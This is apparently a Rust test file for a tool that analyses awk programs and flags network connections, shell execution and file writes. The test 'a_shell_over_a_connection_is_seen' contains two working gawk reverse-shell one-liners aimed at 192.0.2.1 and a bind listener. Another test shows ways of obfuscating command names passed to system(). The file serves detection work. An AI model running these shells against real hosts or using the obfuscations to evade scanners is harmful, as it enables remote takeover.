//! awk programs and what they do.

use model::{Behavior, Budget, Stream};
use proptest::prelude::*;

use super::*;

/// What a program does, in short words, and what it prints.
fn run(text: &str) -> (Vec<String>, String) {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    let printed = lower(&mut world, text);
    let acts = world
        .finish()
        .acts
        .into_iter()
        .filter_map(|act| match act.behavior {
            Behavior::Connect { host, port, .. } => Some(format!("connect {host}:{port}")),
            Behavior::Listen { port, .. } => Some(format!("listen {port}")),
            Behavior::Evaluate { code, .. } => Some(match code.received_over() {
                Some(_) => "evaluate received".to_owned(),
                None => format!("evaluate {code}"),
            }),
            Behavior::Execute { program, input, .. } => Some(match input {
                Stream::Connection(_) => format!("{program} on the connection"),
                _ => format!("execute {program}"),
            }),
            Behavior::Write { path, content, .. } => Some(format!("write {path}: {content}")),
            Behavior::Send { .. } => None,
            other => Some(format!("{other:?}")),
        });
    (acts.collect(), printed.text)
}

fn acts(text: &str) -> Vec<String> {
    run(text).0
}

#[test]
fn a_shell_over_a_connection_is_seen() {
    let read = r#"BEGIN { s = "/inet/tcp/0/192.0.2.1/4444"
        while (42) {
            do { printf "> " |& s; s |& getline c
                if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) }
            } while (c != "exit")
            close(s) } }"#;
    let done = acts(read);
    assert_eq!(done[0], "connect 192.0.2.1:4444", "{done:?}");
    assert!(done.contains(&"evaluate received".to_owned()), "{done:?}");

    let through = r#"BEGIN{h="192.0.2.1";p=99;s="/inet/tcp/0/" h "/" p;while((s|&getline l)>0){print l|&"/bin/sh";close("/bin/sh","to");while(("/bin/sh"|&getline o)>0)print o|&s}}"#;
    let done = acts(through);
    assert_eq!(done[0], "connect 192.0.2.1:99", "{done:?}");
    assert!(
        done.iter().any(|act| act.contains("on the connection")),
        "{done:?}"
    );
    assert_eq!(
        acts(r#"BEGIN { "/inet/tcp/5555/0/0" |& getline x }"#),
        ["listen 5555"]
    );
}

#[test]
fn commands_are_run_whatever_starts_them() {
    for text in [
        r#"BEGIN { system("zd") }"#,
        r#"BEGIN { c = "z" "d"; system(c) }"#,
        r#"BEGIN { "zd" | getline x }"#,
        r#"function f(a) { system(a) } BEGIN { f(sprintf("%c%s", 122, "d")) }"#,
        r#"BEGIN { n = split("122 100", a, " "); for (i = 1; i <= 2; i++) s = s sprintf("%c", a[i]); system(s) }"#,
        r#"BEGIN { system(substr("xzdx", 2, 2)) }"#,
        "BEGIN { s = \"z-d\"; gsub(/-/, \"\", s)\n system(s) }",
        r#"BEGIN { system("\172\x64") }"#,
    ] {
        let done = acts(text);
        assert!(done.contains(&"execute zd".to_owned()), "{text}: {done:?}");
    }
    let piped = acts(r#"BEGIN { print "zd" | "sh" }"#);
    assert!(piped.contains(&"execute zd".to_owned()), "{piped:?}");
}

#[test]
fn files_are_written() {
    let done = acts(r#"BEGIN { print "a", "b" > "/tmp/x"; print "c" >> "/tmp/x" }"#);
    assert_eq!(done, ["write /tmp/x: a b\n", "write /tmp/x: c\n"]);
}

#[test]
fn text_work_does_nothing_and_prints() {
    for text in [
        "{ print $1, $NF }",
        "/error/ { n++ } END { print n }",
        "BEGIN { FS = \":\" } $3 >= 1000 && $7 !~ /nologin/ { users[$1] = $6 } END { for (u in users) printf \"%s %s\\n\", u, users[u] }",
        "NR == 1, /end/ { sub(/^ +/, \"\"); print }",
        "function max(a, b) { return a > b ? a : b } { m = max(m, length($0)) } END { print m / 2 }",
    ] {
        assert!(acts(text).is_empty(), "{text}");
    }
    assert_eq!(
        run(r#"BEGIN { printf "%s-%d\n", "a", 3 * 4 % 5 }"#).1,
        "a-2\n"
    );
    assert_eq!(
        run(r#"BEGIN { x = 3; x += 2; print x++ x, 10 / 4 }"#).1,
        "56 2.5\n"
    );
}

#[test]
fn deep_nesting_is_a_gap() {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    lower(
        &mut world,
        &format!("BEGIN {{ x = {}1 }}", "(".repeat(50_000)),
    );
    assert_eq!(world.finish().gaps.len(), 1);
}

proptest! {
    #[test]
    fn any_text_is_lowered(text in "(BEGIN|[a-c]|\\{|\\}|\\(|\\)|\\[|\\]|\"|/|\\$|\\||&|getline|print|for|in|while|if|do|\n|;|=|\\+|[0-9]| |,|<|>|~|!|\\?|:|é|\\\\)*") {
        let budget = Budget::default();
        lower(&mut World::new(&budget), &text);
    }
}
